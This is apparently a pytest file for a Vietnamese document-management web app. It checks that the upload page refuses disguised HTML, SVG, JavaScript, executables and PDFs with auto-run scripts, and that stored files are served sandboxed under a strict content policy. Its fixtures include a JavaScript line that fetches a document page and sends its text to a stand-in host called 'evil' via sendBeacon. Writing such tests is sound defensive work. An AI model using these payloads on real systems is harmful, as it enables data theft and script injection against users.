"""The attacks on files, through the clerk's receive page: each file is refused by its bytes,
with its code and a Vietnamese message, before anything is stored or numbered (no document,
no incoming number, no blob, nothing left in the blob store's temporary folder). And what is
kept is served with the decided type, sandboxed."""

from __future__ import annotations

import io
import os

import pytest
from django.test import override_settings
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.factories import doc_type
from vpdt.core import blobs, filetypes, uploads
from vpdt.core.models import Blob
from vpdt.records.models import Attachment, Document, Register

pytestmark = pytest.mark.django_db


def _pdf(open_action_js: str = "") -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if open_action_js:
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
            NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(open_action_js)})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


HTML = b"<!doctype html><html><body><script>fetch('/api/me')</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
JS = b"fetch('/van-ban/1/').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t));"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200 + b"This program cannot be run in DOS mode."
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200


def _receive(c, data: bytes, name: str, content_type: str):
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = SimpleUploadedFile(name, data, content_type=content_type)
    return c.post("/van-ban-den/tiep-nhan/", {
        "issuer_name": "Bộ Nội vụ", "document_type": doc_type("CV").pk, "subject": "Tệp lạ",
        "number": "12", "notation": "BNV-VP", "issued_date": "02/03/2026", "urgency": "1", "register_now": "1",
        "scan": upload})


def _nothing_kept(blob_dir) -> None:
    assert not Document.objects.exists()
    assert not Register.objects.filter(last_number__gt=0).exists()
    assert not Blob.objects.exists() and not Attachment.objects.exists()
    tmp = blob_dir / "tmp"
    assert not tmp.exists() or os.listdir(tmp) == []
    stored = [p for p in blob_dir.rglob("*") if p.is_file()]
    assert stored == []


@pytest.mark.parametrize(("data", "name", "declared", "code", "message"), [
    (HTML, "cong-van.pdf", "application/pdf", "FILE_TYPE_REFUSED", "Tệp không thuộc loại được chấp nhận"),
    (HTML, "anh.png", "image/png", "FILE_TYPE_REFUSED", "Tệp không thuộc loại được chấp nhận"),
    (SVG, "anh.jpg", "image/jpeg", "FILE_TYPE_REFUSED", "Tệp không thuộc loại được chấp nhận"),
    (JS, "cong-van.pdf", "application/pdf", "FILE_TYPE_REFUSED", "Tệp không thuộc loại được chấp nhận"),
    (b"", "rong.pdf", "application/pdf", "FILE_EMPTY", "Tệp rỗng (0 byte)."),
    (EXE, "cong-van.pdf", "application/pdf", "FILE_TYPE_REFUSED", "Tệp không thuộc loại được chấp nhận"),
    (ELF, "cong-van.pdf", "application/pdf", "FILE_TYPE_REFUSED", "Tệp không thuộc loại được chấp nhận"),
    (_pdf("app.alert('x')"), "cong-van.pdf", "application/pdf", "PDF_ACTIVE_CONTENT", "Tệp PDF có mã chạy tự động"),
    (b"%PDF-1.7\n1 0 obj <<", "hong.pdf", "application/pdf", "PDF_UNREADABLE", "Tệp PDF bị hỏng"),
], ids=["html-as-pdf", "html-as-png", "svg-as-jpg", "js-as-pdf", "empty", "exe-as-pdf", "elf-as-pdf",
        "pdf-openaction-js", "broken-pdf"])
def test_a_refused_file_leaves_no_document_no_number_no_blob(world, login, blob_dir, data, name, declared, code,
                                                             message):
    c = login(world.clerk)
    r = _receive(c, data, name, declared)
    page = r.content.decode()
    assert r.status_code == 200 and message in page  # the form again, the refusal next to the file
    _nothing_kept(blob_dir)
    with pytest.raises(filetypes.FileRefused) as refused:
        (blob_dir.parent / "probe").write_bytes(data)
        from vpdt.records.services import decide_type

        decide_type(str(blob_dir.parent / "probe"), world.agency)
    assert refused.value.code == code and message in refused.value.message


def test_a_pdf_is_kept_with_its_decided_type_and_served_sandboxed(world, login, blob_dir):
    c = login(world.clerk)
    r = _receive(c, _pdf(), "ban-quet.html", "text/html")  # a real PDF, declared as HTML
    assert r.status_code == 302
    attachment = Attachment.objects.get()
    assert (attachment.content_type, attachment.file_kind, attachment.flag) == ("application/pdf", "pdf", "")
    assert attachment.document.incoming_number == 1
    r = c.get(f"/tep/{attachment.pk}/")
    assert r["Content-Type"] == "application/pdf" and r["X-Content-Type-Options"] == "nosniff"
    assert r["Content-Security-Policy"].startswith("sandbox;") and "default-src 'none'" in r["Content-Security-Policy"]
    assert r["Content-Disposition"].startswith("inline")
    assert c.get(f"/tep/{attachment.pk}/?download=1")["Content-Disposition"].startswith("attachment")


def test_the_pages_carry_a_strict_csp_without_inline_script(world, login):
    c = login(world.clerk)
    r = c.get("/van-ban-den/tiep-nhan/")
    csp = r["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp and "unsafe-eval" not in csp
    page = r.content.decode()
    assert "<script>" not in page and "onchange=" not in page and "style=\"" not in page


class _Measuring(uploads.BoundedUploadHandler):
    """The upload handler, measuring the folder it writes into (the blob store's spool) after every chunk."""

    peak = 0
    chunk_size = 256 * 1024  # below the 1 MB limit, so that some of the file is written first

    def receive_data_chunk(self, raw_data, start):
        out = super().receive_data_chunk(raw_data, start)
        if self.refused is None:
            self.sink.settled()  # written in the handler's own thread: measured once written
        folder = blobs._spool_dir()
        held = sum(os.path.getsize(os.path.join(folder, f)) for f in os.listdir(folder))
        _Measuring.peak = max(_Measuring.peak, held)
        return out


def test_an_oversize_upload_is_refused_while_it_streams(world, login, blob_dir):
    _Measuring.peak = 0
    world.agency.max_upload_mb = 1
    world.agency.save(update_fields=["max_upload_mb"])
    folder = blobs._spool_dir()
    big = b"%PDF-1.4\n" + b"0" * (6 * 1024 * 1024)  # 6 MB against a 1 MB limit
    with override_settings(FILE_UPLOAD_HANDLERS=[f"{__name__}._Measuring"]):
        c = login(world.clerk)
        from django.core.files.uploadedfile import SimpleUploadedFile

        r = c.post("/van-ban-den/tiep-nhan/", {
            "issuer_name": "Bộ Nội vụ", "document_type": doc_type("CV").pk, "subject": "Tệp lớn",
            "number": "12", "notation": "BNV-VP", "issued_date": "02/03/2026", "urgency": "1", "register_now": "1",
            "scan": SimpleUploadedFile("lon.pdf", big, content_type="application/pdf")})
    assert "Tệp vượt quá dung lượng cho phép (1 MB)." in r.content.decode()
    chunk = _Measuring.chunk_size
    assert 1024 * 1024 - 2 * chunk <= _Measuring.peak <= 1024 * 1024 + chunk  # never the 6 MB
    assert os.listdir(folder) == []
    _nothing_kept(blob_dir)


def test_a_request_larger_than_any_limit_is_refused_before_it_is_read(world, login, settings):
    settings.VPDT_MAX_REQUEST_MB = 1
    c = login(world.clerk)
    r = c.generic("POST", "/van-ban-den/tiep-nhan/", b"x" * 10, CONTENT_TYPE="multipart/form-data; boundary=x",
                  CONTENT_LENGTH=str(2 * 1024 * 1024))
    assert r.status_code == 413 and "Yêu cầu quá lớn (tối đa 1 MB)." in r.content.decode()  # a page for people
    r = c.generic("POST", "/api/auth/token", b"x" * 10, CONTENT_TYPE="application/json",
                  CONTENT_LENGTH=str(2 * 1024 * 1024))
    assert r.status_code == 413 and r.json()["code"] == "REQUEST_TOO_LARGE"  # JSON for systems
    assert "Yêu cầu quá lớn" in r.json()["message"]


def test_the_admin_works_under_the_csp(world, client):
    from vpdt.directory.models import User

    root = User.objects.create_superuser(username="root-csp", password="x-Secret-123", email="root@example.vn")
    client.force_login(root)
    for url in ("/admin/", "/admin/records/register/", "/admin/directory/agency/add/"):
        r = client.get(url)
        assert r.status_code == 200, url
        assert "script-src 'self'" in r["Content-Security-Policy"]
        page = r.content.decode()
        assert "<script>" not in page and " onclick=" not in page


def test_files_stored_before_the_check_get_their_type_decided_by_the_recheck_command(world, login, blob_dir):
    """An upgrade: files stored before files were judged at upload are served as downloads until
    `recheck_file_types` decides their type; an HTML file among them is flagged, never inline."""
    from django.core.management import call_command

    from vpdt.core import blobs
    from vpdt.core.models import AuditEntry

    c = login(world.clerk)
    assert _receive(c, _pdf(), "ban-quet.pdf", "application/pdf").status_code == 302
    pdf = Attachment.objects.get()
    html_blob = blobs.store_stream(io.BytesIO(b"<html><script>alert(1)</script></html>"))
    html = Attachment.objects.create(document=pdf.document, blob=html_blob, name="cu.pdf", content_type="text/html")
    Attachment.objects.filter(pk=pdf.pk).update(file_kind="", content_type="application/pdf")  # as before the check
    assert c.get(f"/tep/{pdf.pk}/")["Content-Disposition"].startswith("attachment")  # not yet decided: download
    out = io.StringIO()
    call_command("recheck_file_types", stdout=out)
    assert "Đã xác định loại 2 tệp; 1 tệp bị gắn cờ" in out.getvalue()
    pdf.refresh_from_db()
    html.refresh_from_db()
    assert (pdf.file_kind, pdf.flag) == ("pdf", "")
    assert (html.content_type, html.flag) == ("application/octet-stream", "refused_type")
    assert c.get(f"/tep/{pdf.pk}/")["Content-Disposition"].startswith("inline")
    r = c.get(f"/tep/{html.pk}/")
    assert r["Content-Type"] == "application/octet-stream" and r["Content-Disposition"].startswith("attachment")
    assert AuditEntry.objects.filter(action="document.file_type_checked").count() == 2
    call_command("recheck_file_types", stdout=io.StringIO())  # again: nothing left to do
    assert AuditEntry.objects.filter(action="document.file_type_checked").count() == 2
